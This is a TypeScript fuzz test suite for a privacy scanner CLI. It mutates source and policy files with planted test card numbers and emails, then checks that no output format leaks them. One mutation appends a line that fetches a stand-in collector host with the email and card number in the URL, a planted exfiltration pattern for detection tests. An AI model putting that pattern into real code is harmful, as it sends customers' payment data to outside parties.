import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { formatDiagnostic, parsePolicy } from '@pledge/policy';
import { describe, expect, it } from 'vitest';
import { DEMO_POLICY, runCli, tempProject } from './scan-helpers.js';

// A fuzz suite of our own, deterministic (seeded) and sized for a 2-core CI machine: mutated
// real source files, generated deep structures and malformed policies, with card numbers and
// emails planted in code, comments, strings, file names, suppressions and policies. It asserts
// what a gate must guarantee: no crash (exit 0 or 1, never 2), no hang (the run completes),
// no silent drop (every file is analysed or skipped with a reason), and nothing planted is
// printed in clear, in any format of `scan`, `map` and `baseline`.

/** mulberry32: a small seeded PRNG, so a failure reproduces. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const CARDS = ['4539148803436467', '5555555555554444', '378282246310005'];
const EMAILS = ['fuzz.victim@shop-example.com', 'ops+leak@mail.example.org'];

/** The planted card numbers written the ways code writes them. */
function written(card: string, random: () => number): string {
  const sep = [' ', '-', '.', '_', '', '\t', '  ', '\u2013'][Math.floor(random() * 8)] ?? ' ';
  return card.match(/.{1,4}/g)?.join(sep) ?? card;
}

const RULES_DIR = join(import.meta.dirname, '../../core/src/rules');
/** Real source files: the core rules' fixtures (true positives and hard negatives). */
const SEEDS: string[] = readdirSync(RULES_DIR).flatMap((rule) => {
  const dir = join(RULES_DIR, rule, 'fixtures');
  try {
    return readdirSync(dir)
      .filter((name) => /\.[cm]?[jt]sx?$/.test(name))
      .map((name) => readFileSync(join(dir, name), 'utf8'));
  } catch {
    return [];
  }
});

const TOKENS = [
  '{',
  '}',
  '(',
  ')',
  '[',
  ']',
  '`',
  '"',
  "'",
  '/*',
  '*/',
  '//',
  '<div>',
  '${',
  '=>',
  ';',
  '\0',
  '\uFEFF',
  '\uD800',
  '\r',
  '\u2028',
  '\u001b[2J',
];

/** One mutation of a source: cut, duplicate, insert a token or a planted value, or truncate. */
function mutate(text: string, random: () => number): string {
  const at = Math.floor(random() * (text.length + 1));
  const span = Math.floor(random() * 40);
  const card = CARDS[Math.floor(random() * CARDS.length)] ?? '';
  const email = EMAILS[Math.floor(random() * EMAILS.length)] ?? '';
  switch (Math.floor(random() * 8)) {
    case 0:
      return text.slice(0, at) + text.slice(at + span);
    case 1:
      return text.slice(0, at) + text.slice(at, at + span).repeat(3) + text.slice(at);
    case 2:
      return (
        text.slice(0, at) + (TOKENS[Math.floor(random() * TOKENS.length)] ?? '') + text.slice(at)
      );
    case 3:
      return `${text}\nexport const seeded = 'card ${written(card, random)} for ${email}';\n`;
    case 4:
      return `// pledge-ignore ${card}: ${email}\n${text}\n/* ${written(card, random)} */\n`;
    case 5:
      return text.slice(0, at);
    case 6:
      return text.replace(/\n/g, random() < 0.5 ? '\r\n' : '\r');
    default:
      return `${text}\nexport const c${card} = fetch('https://collector.example.net/in?email=${email}&card=${written(card, random)}');\n`;
  }
}

/** Digits-only view of an output: a planted card in any separators shows as its digits. */
function leaks(output: string): string[] {
  const digits = output.replace(/[^0-9]/g, '');
  if (process.env.FUZZ_DEBUG) {
    for (const email of EMAILS) {
      const at = output.indexOf(email);
      if (at !== -1)
        console.log('LEAK', JSON.stringify(output.slice(Math.max(0, at - 150), at + 60)));
    }
    for (const card of CARDS) {
      if (!digits.includes(card)) continue;
      // Find the first digit of the card in the output.
      let seen = 0;
      const start = digits.indexOf(card);
      for (let i = 0; i < output.length; i++) {
        if (/[0-9]/.test(output.charAt(i))) {
          if (seen === start) {
            console.log('LEAK', JSON.stringify(output.slice(Math.max(0, i - 150), i + 60)));
            break;
          }
          seen++;
        }
      }
    }
  }
  return [
    ...CARDS.filter((card) => digits.includes(card)),
    ...EMAILS.filter((email) => output.includes(email)),
  ];
}

describe('fuzz: mutated real files with planted values', () => {
  const SEEDS_PER_RUN = 2;
  it.each(Array.from({ length: SEEDS_PER_RUN }, (_, i) => 1009 + i * 7919))(
    'seed %i: no crash, no silent drop, no value in clear',
    async (seed) => {
      const random = prng(seed);
      const files: Record<string, string> = {};
      for (let i = 0; i < 45; i++) {
        const base = SEEDS[Math.floor(random() * SEEDS.length)] ?? '';
        let text = base;
        const rounds = 1 + Math.floor(random() * 3);
        for (let r = 0; r < rounds; r++) text = mutate(text, random);
        // Some names carry a planted value too.
        const name =
          random() < 0.15
            ? `src/${EMAILS[i % EMAILS.length] ?? ''}-${String(i)}.ts`
            : random() < 0.1
              ? `src/c${CARDS[i % CARDS.length] ?? ''}.ts`
              : `src/m${String(i)}.${random() < 0.2 ? 'js' : 'ts'}`;
        files[name] = text;
      }
      // Generated deep structures ride along.
      files['src/deep.ts'] = `export const a = ${'[\n'.repeat(900)}0${'\n]'.repeat(900)};\n`;
      const root = tempProject(files);
      const count = Object.keys(files).length;

      for (const format of ['json', 'pretty', 'sarif', 'github', 'markdown']) {
        const run = await runCli(root, ['scan', '--format', format, '--no-color']);
        expect(run.code, run.stderr).toBeLessThan(2);
        expect(leaks(run.stdout + run.stderr)).toEqual([]);
        if (format === 'json') {
          const report = JSON.parse(run.stdout) as {
            stats: { files: number; analysed: number };
            skipped: { reason: string }[];
          };
          expect(report.stats.files).toBe(count);
          expect(report.stats.analysed + report.skipped.length).toBe(count);
        }
      }
      for (const format of ['text', 'json', 'markdown']) {
        const run = await runCli(root, ['map', '--format', format]);
        expect(run.code, run.stderr).toBe(0);
        expect(leaks(run.stdout + run.stderr)).toEqual([]);
      }
      const baseline = await runCli(root, ['baseline', '--output', 'pledge.baseline.json']);
      expect(baseline.code, baseline.stderr).toBe(0);
      const written = readFileSync(join(root, 'pledge.baseline.json'), 'utf8');
      expect(leaks(written + baseline.stdout + baseline.stderr)).toEqual([]);
    },
  );
});

describe('fuzz: malformed policies', () => {
  const demo = readFileSync(DEMO_POLICY, 'utf8');
  it('400 mutated policies: always a result, errors positioned, nothing planted in clear', () => {
    const random = prng(424242);
    let invalid = 0;
    for (let i = 0; i < 400; i++) {
      let text = demo;
      const rounds = 1 + Math.floor(random() * 4);
      for (let r = 0; r < rounds; r++) {
        const at = Math.floor(random() * text.length);
        const card = CARDS[Math.floor(random() * CARDS.length)] ?? '';
        switch (Math.floor(random() * 6)) {
          case 0:
            text = text.slice(0, at) + text.slice(at + Math.floor(random() * 80));
            break;
          case 1:
            text = `${text.slice(0, at)}${TOKENS[Math.floor(random() * TOKENS.length)] ?? ''}${text.slice(at)}`;
            break;
          case 2:
            text = text.replace('name: session_id', `name: s${written(card, random)}`);
            break;
          case 3:
            text = text.replace(/clause: [\w-]+/, `clause: ${EMAILS[0] ?? ''}-${card}`);
            break;
          case 4:
            text = `${text.slice(0, at)}\n  - &a [*a, *a]\n${text.slice(at)}`;
            break;
          default:
            text = text.slice(0, at);
        }
      }
      const result = parsePolicy(text, `policy-${String(i)}.yaml`);
      expect(result.policy === undefined).toBe(result.errors.length > 0);
      if (result.errors.length > 0) invalid++;
      for (const error of result.errors) {
        expect(error.line).toBeGreaterThanOrEqual(1);
        expect(error.column).toBeGreaterThanOrEqual(1);
        expect(leaks(formatDiagnostic(error))).toEqual([]);
      }
    }
    // The mutations do break policies: the suite exercises the error paths.
    expect(invalid).toBeGreaterThan(100);
  });
});
